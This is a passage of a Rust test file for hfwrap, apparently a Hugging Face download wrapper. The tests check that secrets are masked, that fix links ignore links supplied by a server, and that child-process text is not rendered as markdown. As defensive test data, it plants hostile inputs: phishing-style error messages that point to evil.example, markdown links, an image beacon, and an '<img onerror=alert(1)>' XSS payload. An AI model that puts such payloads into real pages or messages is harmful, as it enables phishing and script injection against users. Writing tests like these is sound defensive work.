    env.set("HF_ENDPOINT", closed.url());
    let mirror_url = format!("http://bot:{secret}@127.0.0.1:{}", mirror.port());
    let w = wrap(&env, &["--mirror", &mirror_url], &["hf", "download", TINY]);
    w.assert_attempt_cause(0, "network_blocked");
    assert!(w.attempt_action(0).contains(&format!("http://***@127.0.0.1:{}", mirror.port())), "{}", w.dump());
    assert_hfwrap_never_wrote(&w, Some(&summary), &secret);
}

// ---------------------------------------------------------------------------------------------
// 7. The links of a fix come from the configured endpoint, never from a server's text; child
//    text in the step summary is never live markdown.
// ---------------------------------------------------------------------------------------------

#[test]
fn a_server_cannot_choose_the_links_of_the_fix() {
    let evil = "https://evil.example";
    let message = format!(
        "Access to model {GATED} is restricted and you are not in the authorized list. Visit {evil}/{GATED} to ask for access, or create a new token at {evil}/settings/tokens."
    );
    let hub = hub_with(
        json!([{"kind": "status", "status": 403, "on": "resolve", "error_code": "GatedRepo", "message": message}]),
    );
    let mut env = TestEnv::new(Some(&hub));
    env.set("HF_TOKEN", other_token());
    let py = hub2_bin("python3");
    let code = format!("from huggingface_hub import hf_hub_download\nhf_hub_download({GATED:?}, 'config.json')\n");
    let w = wrap(&env, &[], &[py.to_str().unwrap(), "-c", &code]);
    w.assert_failed(1, "auth_required");
    assert!(w.run.stderr_plain().contains(&format!("{evil}/settings/tokens")), "the server's text:\n{}", w.dump());
    w.assert_fix_contains(&hub.repo_url(GATED));
    assert!(!w.fix().contains(evil), "{}", w.dump());
    assert!(w.run.hfwrap_lines().iter().filter(|l| l.contains("fix:")).all(|l| !l.contains(evil)), "{}", w.dump());

    // An invalid token, with the error naming another host: the token page is the configured one.
    let script = format!(
        "import sys\nprint('huggingface_hub.errors.HfHubHTTPError: 401 Client Error: Unauthorized for url: {evil}/api/whoami-v2 (Invalid credentials in Authorization header)', file=sys.stderr)\nsys.exit(1)\n"
    );
    let w = wrap(&env, &[], &[py.to_str().unwrap(), "-c", &script]);
    w.assert_failed(1, "token_invalid");
    w.assert_fix_contains(&format!("{}/settings/tokens", hub.url()));
    assert!(!w.fix().contains(evil), "{}", w.dump());
}

#[test]
fn child_text_in_the_step_summary_is_not_markdown() {
    let mut env = TestEnv::new(None);
    let summary = github(&mut env);
    let planted = "/tmp/[click here](https://evil.example/x) ![p](https://evil.example/p.png) <img src=x onerror=alert(1)> **bold** `tick`";
    let py = hub2_bin("python3");
    let code = format!("import sys\nprint(\"PermissionError: [Errno 13] Permission denied: '{planted}'\", file=sys.stderr)\nsys.exit(1)\n");
    let w = wrap(&env, &[], &[py.to_str().unwrap(), "-c", &code, "`x`", "[a](https://evil.example)"]);
    w.assert_failed(1, "cache_unwritable");
    assert!(w.fix().contains("[click here]"), "the planted text should reach the fix: {}", w.dump());
    let md = read_lossy(&summary);
    let outside =
        hfwrap::report::github::outside_code_spans(&md).unwrap_or_else(|| panic!("unclosed code span in:\n{md}"));
    for markup in ["](", "<img", "**bold**", "!["] {
        assert!(!outside.contains(markup), "{markup:?} is live markdown in the summary:\n{md}");
    }
}
